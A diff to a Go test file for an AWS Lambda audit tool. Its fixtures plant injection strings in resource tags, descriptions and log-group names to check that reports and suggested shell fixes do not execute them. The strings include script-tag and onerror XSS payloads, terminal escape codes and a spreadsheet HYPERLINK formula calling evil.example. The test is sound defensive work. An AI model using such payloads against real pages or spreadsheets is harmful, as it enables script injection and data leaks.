@@ -34,7 +34,7 @@ const (
 // script's end, what a terminal obeys, what shows a name backwards, a formula, the
 // marks of Markdown and of Go's templates, and far more than a line holds.
 var hostileTexts = []string{
-	hostileNeedle + `</script><script>alert(1)</script><img src=x onerror=alert(1)>'"&{{.}}<!--`,
+	hostileNeedle + `</script><script>alert(1)</script><img src=x onerror=alert(1)>'"&{{.}}<!--` + hostileNeedle,
 	hostileNeedle + "\x1b[2J\x1b]0;pwned\x07\u202e\u2066\u200b\r\n\t\x7f\u0085|",
 	`=HYPERLINK("http://evil.example/` + hostileNeedle + `","x")`,
 	`@SUM(` + hostileNeedle + `) | [x](javascript:alert(1)) ![x](http://evil.example/x.png) ` + "`<b>`",
@@ -68,7 +68,7 @@ func hostileAccount(t *testing.T) *fixtures.Account {
 	tags["lambda-audit:ignore:tracing-off"] = "2027-03-31 " + hostileTexts[0]
 	tags["lambda-audit:ignore:x86-architecture"] = hostileTexts[1]
 	admin := fixtures.Document(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)
-	config := fixtures.Config{Role: "worker", Runtime: "python3.8", Environment: variables, Description: hostileTexts[0],
+	config := fixtures.Config{Role: "worker", Runtime: "python3.8", Environment: variables, Description: hostileTexts[0], LogGroup: "/shop/" + hostileTexts[0],
 		Layers: []string{"arn:aws:lambda:eu-west-1:999900001111:layer:" + hostileTexts[0] + ":1"}, State: "Failed", StateReason: hostileTexts[1]}
 	return &fixtures.Account{
 		ID:    "111122223333",
@@ -148,6 +148,10 @@ func obeyed(text string) string {
 	return ""
 }
 
+// inertInFix is what a shell neither runs nor expands: comments, and texts between
+// single quotes.
+var inertInFix = regexp.MustCompile(`(?m)^ *#.*$|'[^']*'`)
+
 // hostileFormats are what must hold of what each format writes, beside that nothing
 // in it is obeyed.
 var hostileFormats = map[string]func(*testing.T, string){
@@ -190,8 +194,8 @@ var hostileFormats = map[string]func(*testing.T, string){
 			t.Fatalf("%d findings, %v", len(result.Findings), err)
 		}
 		for _, f := range result.Findings {
-			if strings.Contains(f.Fix, hostileNeedle) {
-				t.Errorf("%s: who pastes the fix runs what somebody else wrote: %.300q", f.Rule, f.Fix)
+			if run := inertInFix.ReplaceAllString(f.Fix, "''"); strings.Contains(run, hostileNeedle) {
+				t.Errorf("%s: who pastes the fix runs what somebody else wrote: %q", f.Rule, run)
 			}
 		}
 	},
